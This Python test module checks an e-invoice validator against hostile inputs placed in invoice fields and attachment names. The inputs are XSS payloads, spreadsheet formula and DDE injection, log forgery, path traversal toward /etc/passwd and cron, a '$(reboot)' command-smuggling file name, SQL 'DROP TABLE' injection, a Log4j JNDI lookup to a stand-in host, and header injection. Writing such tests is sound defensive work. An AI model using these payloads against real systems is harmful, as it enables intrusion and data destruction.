"""Text that is code where it is shown: in a page, a spreadsheet, a log, a header, a typesetter, a shell."""

from tests.security.hostile.base import ACCEPTED, NUMBER, REJECTED, SELLER, UBL, Hostile, attached, noted, numbered, put

SCRIPT = "<script>alert(1)</script>"
# What a page would run, if it were shown as it is. The word marks what a test looks for.
SCRIPTS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></style><script>alert(1)</script>",
    "javascript:alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{7*191}}${7*191}#{7*191}<%=7*191%>",
    '" autofocus onfocus=alert(1) x="',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=http://bait.test/'>",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://bait.test/";"x")', "\t=1+1", "=cmd|' /C calc'!A0")
LOG_LINES = (
    "x\n2026-01-01 [info] accepted",
    'x\r\n{"event": "forged"}',
    "\u2028forged",
    "x\u0085forged",
    "%s %n %d {0} %(x)s",
)
FILE_NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a.xml\r\nSet-Cookie: session=1",
    'a".xml; filename="b.exe',
    "<script>alert(1)</script>.xml",
    "-rf.xml",
    "$(reboot).xml",
    "a\u202elmx.exe",
    "CON",
    ".htaccess",
    "x" * 5_000 + ".xml",
    '=HYPERLINK("http://bait.test/").xml',
    "\x1b[2Ja.xml",
    "%2e%2e%2f%00.xml",
)


def escaped(text: str) -> str:
    """As XML wants it, everywhere."""
    table = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "\r": "&#13;", "\n": "&#10;", "\t": "&#9;"}
    return "".join(table.get(character, character) for character in text)


def everywhere(text: str) -> bytes:
    """The text in number, seller, note, item name, and as name of an attachment."""
    invoice = attached("QUJD", name=escaped(text)).decode()
    for place in (NUMBER, SELLER, "Bürodrehstuhl", "RV-MÖBEL-2025", "Jörg Grünwald"):
        invoice = invoice.replace(place, escaped(text))
    return invoice.encode()


ROWS = (
    *(Hostile(f"in every text: {text}", ACCEPTED, lambda text=text: everywhere(text)) for text in SCRIPTS),
    *(Hostile(f"in every text: {text!r}", ACCEPTED, lambda text=text: everywhere(text))
      for text in (*FORMULAS, *LOG_LINES)),
    *(Hostile(f"named {name[:40]!r}", ACCEPTED, lambda number=number: numbered(f"N-{number}"), name)
      for number, name in enumerate(FILE_NAMES)),
    Hostile("a script in CDATA", ACCEPTED, lambda: noted(f"<![CDATA[{SCRIPT}]]>")),
    Hostile("a script as element in a value", REJECTED, lambda: noted(SCRIPT)),
    Hostile("a script as specification identifier", "no-scenario", lambda: put(
        "urn:cen.eu:en16931:2017#compliant", escaped(SCRIPT))),
    Hostile("a script in a wrong value", REJECTED, lambda: put("2026-10-29", escaped(SCRIPT))),
    Hostile("a script in a wrong code", ACCEPTED, lambda: put('unitCode="H87"', f'unitCode="{escaped(SCRIPT)}"')),
    Hostile("a script as name of the root", "wrong-root", lambda: b'<script xmlns="http://www.w3.org/1999/xhtml"/>'),
    Hostile("a script as namespace of the root", "malformed", lambda: put(
        "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2", escaped(SCRIPT))),
    Hostile("a script in the encoding", "malformed", lambda: put("UTF-8", escaped(SCRIPT))),
    Hostile("a script in an element name that is not closed", "malformed", lambda: put("<cbc:ID>", f"{SCRIPT}<cbc:ID")),
    Hostile("a page in place of the invoice", "wrong-root", lambda: (
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)">{SCRIPT}</body></html>').encode()),
    Hostile("a page that is no XML", "malformed", lambda: b"<html><body><p>Rechnung<br></body></html>"),
    Hostile("a picture with a script in place of the invoice", "wrong-root", lambda: (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>').encode()),
    Hostile("a page as attachment, called a PDF", ACCEPTED, lambda: attached("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
    Hostile("an attachment called as a page", REJECTED, lambda: attached("PHA+", name="a.html", mime="text/html")),
    Hostile("an attachment with a path for a name", ACCEPTED, lambda: attached("QUJD", name="../../../etc/cron.d/x")),
    Hostile("an attachment with line ends in its name", ACCEPTED, lambda: attached(
        "QUJD", name="a.pdf&#13;&#10;Set-Cookie: x=1")),
    Hostile("commands for the typesetter", ACCEPTED, lambda: noted(
        '#read("/etc/passwd") #eval("1") $ x $ \\ @a &lt;b&gt; #import "x": * \\input{/etc/passwd}')),
    Hostile("escapes of the terminal", "malformed", lambda: noted("\x1b[2J\x1b]0;x\x07")),
    Hostile("escapes of the terminal in one character", ACCEPTED, lambda: noted("\x9b2J\x9d0;x\x9c")),
    Hostile("escapes of the terminal in a wrong value", "malformed", lambda: put("2026-10-29", "\x1b[31m")),
    Hostile("commands for a database", ACCEPTED, lambda: numbered("'; DROP TABLE submissions; --")),
    Hostile("patterns for LIKE", ACCEPTED, lambda: numbered("%_\\%_[a-z]*?")),
    Hostile("a lookup of log4j", ACCEPTED, lambda: noted("${jndi:ldap://bait.test/x}")),
    Hostile("an e-mail address with headers in it", ACCEPTED, lambda: put(
        "j.gruenwald@gruenwald.example", "a@b.example&#13;&#10;Bcc: c@d.example")),
    Hostile("an invoice without a fault, called <script>", ACCEPTED, lambda: UBL.encode(), f"{SCRIPT}.xml"),
)  # fmt: skip
